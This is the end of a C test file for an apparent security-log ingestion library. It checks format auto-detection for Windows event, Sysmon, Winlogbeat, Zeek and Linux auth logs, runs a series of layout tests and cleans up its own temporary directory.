        {FIX "win_events.xml", "winevent-xml"},       {FIX "sysmon_linux.log", "sysmon-linux"},
        {FIX "winlogbeat.ndjson", "winlogbeat"},      {"tests/data/ingest/win_lines.json", "winevent-json"},
        {"tests/data/ingest/zeek.json", "zeek-json"}, {"tests/data/ingest/auth.log", "linux-auth"},
    };
    for (size_t i = 0; i < sizeof want / sizeof want[0]; i++) {
        ts_input *in;
        char err[256];
        if (ts_input_open(want[i][0], &in, err, sizeof err) != TOCSIN_OK) {
            CHECK(false);
            continue;
        }
        const char *head;
        size_t n = ts_input_peek(in, &head);
        const ts_reader *r = ts_reader_detect(head, n);
        CHECK_STR(r ? r->name : "", want[i][1]);
        ts_input_close(in);
    }
}

int main(void)
{
    snprintf(tmpdir, sizeof tmpdir, "/tmp/tocsin_layouts_XXXXXX");
    if (!mkdtemp(tmpdir))
        return 1;
    if (ts_scratch_init(&scratch) != TOCSIN_OK)
        return 1;
    test_zeek_pipeline();
    test_zeek_almost();
    test_winxml();
    test_winxml_like_json();
    test_winxml_shapes();
    test_sysmon_linux();
    test_winlogbeat();
    test_sigma();
    test_sniff();
    ts_scratch_free(&scratch);
    char cmd[128];
    snprintf(cmd, sizeof cmd, "rm -rf %s", tmpdir);
    if (system(cmd) != 0)
        fprintf(stderr, "could not remove %s\n", tmpdir);
    return check_done("test_layouts");
}
